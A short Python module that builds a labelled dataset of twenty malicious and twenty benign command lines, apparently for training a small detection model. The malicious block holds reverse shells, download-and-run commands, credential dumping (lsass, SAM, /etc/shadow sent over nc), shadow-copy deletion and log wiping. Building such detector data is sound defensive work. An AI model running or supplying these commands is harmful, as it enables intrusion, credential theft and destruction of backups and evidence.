"""Forty short command lines, malicious or not, in three parts: enough to see a small language model learn."""

PARTS = ("train", "train", "dev", "train", "test")
MALICIOUS = r"""
nc -e /bin/sh 10.0.0.1 4444
bash -i >& /dev/tcp/10.1.1.9/443 0>&1
curl http://203.0.113.7/x.sh | sh
vssadmin delete shadows /all /quiet
wget -qO- http://198.51.100.4/m | bash
certutil -urlcache -f http://203.0.113.9/a.exe a.exe
powershell -enc SQBFAFgA
socat tcp:10.2.2.2:53 exec:/bin/sh
reg save HKLM\SAM sam.hive
mshta http://198.51.100.2/a.hta
rundll32 comsvcs.dll MiniDump 624 lsass.dmp full
cat /etc/shadow | nc 10.0.0.5 9001
wevtutil cl Security
history -c && rm -f ~/.bash_history
curl -s http://203.0.113.50/k | bash
regsvr32 /s /u /i:http://203.0.113.3/f.sct scrobj.dll
nc 10.3.3.3 8080 -e cmd.exe
bitsadmin /transfer j http://198.51.100.8/p.exe p.exe
wmic shadowcopy delete
bash -c 'exec 5<>/dev/tcp/10.9.9.9/443'
"""
BENIGN = r"""
ls -la /var/log
git commit -m 'fix typo'
pip install requests
tar czf backup.tgz docs
df -h
systemctl status nginx
docker ps -a
grep -rn TODO src
npm run build
cp report.docx /mnt/share
ping -c 3 example.org
make test
apt-get update
ssh admin@build-01 uptime
dir C:\Users\Public
ipconfig /all
kubectl get pods
mkdir -p out/reports
journalctl -u cron --since today
git log --oneline
"""


def records() -> list[dict[str, str]]:
    """As ``watchfloor lab`` reads labelled texts, with the part each is given to."""
    return [
        {"text": text, "label": label, "split": PARTS[number % len(PARTS)]}
        for label, block in (("malicious", MALICIOUS), ("benign", BENIGN))
        for number, text in enumerate(block.strip().splitlines())
    ]
